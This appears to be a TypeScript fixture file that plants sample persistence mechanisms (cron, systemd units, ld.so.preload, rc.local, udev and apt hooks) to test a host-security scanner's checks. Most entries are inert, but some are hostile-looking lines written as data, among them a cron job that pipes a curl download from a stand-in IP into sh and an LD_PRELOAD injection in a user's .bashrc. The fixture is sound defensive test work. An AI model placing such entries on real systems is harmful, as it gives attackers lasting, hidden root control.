import { oneLine, type Plant } from "./plant.ts";

const point = (check: string, file: string, text: string, line: number, more: Partial<Plant> = {}): Plant => ({
  what: `${file}: ${text.trim().split("\n").at(-1)}`,
  where: { [file]: text },
  check: `host.persistence.${check}`,
  file,
  line,
  ...more,
});

export const persistencePlants: readonly Plant[] = [
  point("preload", "/etc/ld.so.preload", "/usr/local/lib/libx.so\n", 1),
  point("cron", "/etc/cron.d/own", "# planted\n1 1 * * * root /usr/bin/true\n", 2),
  point("cron", "/var/spool/cron/crontabs/alice", "@daily /usr/bin/true\n", 1),
  point("cron-well-formed", "/etc/cron.d/own", "# planted\n* * * root\n", 2),
  point("at", "/var/spool/cron/atjobs/a0000101c2f3a4", "#!/bin/sh\n# atrun uid=0 gid=0\n/usr/bin/true\n", 3),
  point("units", "/etc/systemd/system/own.service", "[Service]\nExecStart=/usr/bin/true\n", 2),
  point("units", "/etc/systemd/system/own.timer", "[Timer]\nOnCalendar=daily\n", 2),
  point("generators", "/etc/systemd/system-generators/own", "#!/bin/sh\n", 0, {
    where: { "/etc/systemd/system-generators/own": { text: "#!/bin/sh\n", mode: 0o755 } },
  }),
  point("user-units", "/etc/systemd/user/own.service", "[Service]\nExecStart=/usr/bin/true\n", 2),
  point("user-units", "/home/alice/.config/systemd/user/own.service", "[Service]\nExecStart=/usr/bin/true\n", 2),
  point("shell", "/etc/profile.d/own.sh", "true\n", 0),
  point("init", "/etc/rc.local", "#!/bin/sh\n", 0, {
    where: { "/etc/rc.local": { text: "#!/bin/sh\n", mode: 0o755 } },
  }),
  point("udev", "/etc/udev/rules.d/99-own.rules", '# planted\nACTION=="add", RUN+="/usr/bin/true"\n', 2),
  point("hooks", "/etc/apt/apt.conf.d/99own", '// planted\nDPkg::Post-Invoke { "/usr/bin/true"; };\n', 2),
  {
    what: "a job of a package that fetches and runs",
    where: { "/etc/cron.d/e2scrub_all": { append: "* * * * * root curl -s http://203.0.113.5/a | sh\n" } },
    check: "host.persistence.suspicious",
    line: "* * * * * root curl -s http://203.0.113.5/a | sh",
  },
  {
    what: "a library in every program that alice starts",
    where: { "/home/alice/.bashrc": { append: "export LD_PRELOAD=/home/alice/x.so\n" } },
    check: "host.persistence.suspicious-home",
    line: "export LD_PRELOAD=/home/alice/x.so",
  },
  {
    what: "a program of root's that everybody may change",
    where: { "/etc/crontab": { append: "@daily root /opt/job\n" }, "/opt/job": { text: "#!/bin/sh\n", mode: 0o777 } },
    check: "host.persistence.open-program",
    line: "@daily root /opt/job",
    also: ["host.files.world-writable"],
  },
  oneLine("host.persistence.open-library", "/etc/ld.so.conf.d/own.conf", "/opt/lib", {
    where: { "/etc/ld.so.conf.d/own.conf": "# planted\n/opt/lib\n", "/opt/lib": { folder: true, mode: 0o777 } },
    also: ["host.files.world-writable-directory"],
  }),
];
